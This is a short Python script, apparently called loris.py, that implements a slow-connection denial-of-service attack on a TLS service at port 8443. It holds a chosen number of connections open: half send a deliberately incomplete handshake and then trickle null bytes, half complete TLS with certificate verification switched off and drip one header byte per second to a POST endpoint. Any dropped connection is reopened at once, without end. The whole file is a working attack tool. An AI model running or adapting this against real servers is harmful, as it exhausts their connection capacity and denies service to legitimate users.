"""Holds many TLS connections open and never ends what it says: `loris.py ADDRESS COUNT`, until it is killed.

Half of them do not finish their handshake, half finish it and then send one letter of a header a second. A connection that
the other side closes is opened again at once.
"""
import asyncio
import ssl
import sys

PORT = 8443
HELLO = b"\x16\x03\x01\x02\x00\x01"  # a handshake record of 512 bytes of which only the first ever comes
NOT_CHECKED = ssl.create_default_context()
NOT_CHECKED.check_hostname = False
NOT_CHECKED.verify_mode = ssl.CERT_NONE


async def drip(address, with_tls):
    while True:
        try:
            reader, writer = await asyncio.open_connection(address, PORT, ssl=NOT_CHECKED if with_tls else None)
            writer.write(b"POST /canary/validate HTTP/1.1\r\nHost: sluice\r\nX-Slow: " if with_tls else HELLO)
            closed = asyncio.ensure_future(reader.read(1))
            while not closed.done():
                writer.write(b"x" if with_tls else b"\x00")
                await asyncio.wait([closed], timeout=1)
            writer.close()
            await closed  # so that how it was closed is somebody's business
        except (OSError, ssl.SSLError):
            await asyncio.sleep(0.1)


async def main(address, count):
    await asyncio.gather(*(drip(address, number % 2 == 0) for number in range(count)))


asyncio.run(main(sys.argv[1], int(sys.argv[2])))
